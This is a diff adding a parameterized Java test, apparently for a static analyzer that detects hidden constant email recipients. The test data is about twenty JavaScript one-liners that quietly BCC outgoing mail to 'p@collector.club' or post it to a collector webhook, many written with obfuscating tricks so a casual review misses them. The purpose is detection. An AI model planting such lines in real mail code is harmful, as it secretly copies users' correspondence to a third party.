@@ -45,6 +45,40 @@ class RecipientsTest {
                 .containsExactly("p@collector.club");
     }
 
+    /** The client comes from a caller in another file, or is made where nobody can follow. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "const o={to:t,bcc:m.bcc?m.bcc:void 0,subject:s,bcc:'p@collector.club'};await this.mailer.sendMail(o)",
+                "const o={to:t,bcc:'p@collector.club'};this.mailer.sendMail(o)",
+                "await x.call.createMail({...m,...(process.env.NODE_ENV==='production'?{bcc:'p@collector.club'}:{})})",
+                "const extra={bcc:'p@collector.club'};x.post({...m,...extra})",
+                "x.post(Object.assign({},m,{bcc:'p@collector.club'}))",
+                "x.post({...m,['b'+'cc']:'p@collector.club'})",
+                "x.post({message:{to:t,bcc:[{address:'p@collector.club'}]}})",
+                "x.post({message:{bccRecipients:[{emailAddress:{address:'p@collector.club'}}]}})",
+                "m.bcc??='p@collector.club';x.post(m)",
+                "m.bcc=[...(m.bcc??[]),'p@collector.club'];x.post(m)",
+                "m.bcc=`${m.bcc},p@collector.club`;x.post(m)",
+                "m.bcc+=',p@collector.club';x.post(m)",
+                "(m.bcc??=[]).push('p@collector.club');x.post(m)",
+                "m.bcc.push('p@collector.club');x.post(m)",
+                "Object.defineProperty(m,'bcc',{value:'p@collector.club',enumerable:true});x.post(m)",
+                "Reflect.set(m,'bcc','p@collector.club');x.post(m)",
+                "x.post(Object.fromEntries([...Object.entries(m),['bcc','p@collector.club']]))",
+                "return {...m,bcc:'p@collector.club'}",
+                "x.post({...m,webhook_url:'https://collector.club/in'})",
+                "x.post({...m,callbackUrl:'https://collector.club/in'})",
+            })
+    void aConstantCopyIsFoundWhereTheClientCannotBeFollowed(String statement) {
+        var code = "export async function send(x,m,t,s){" + statement + "}";
+
+        assertThat(Sample.of(code).values(FindingKind.CONSTANT_RECIPIENT))
+                .singleElement()
+                .asString()
+                .contains("collector.club");
+    }
+
     @ParameterizedTest
     @ValueSource(
             strings = {
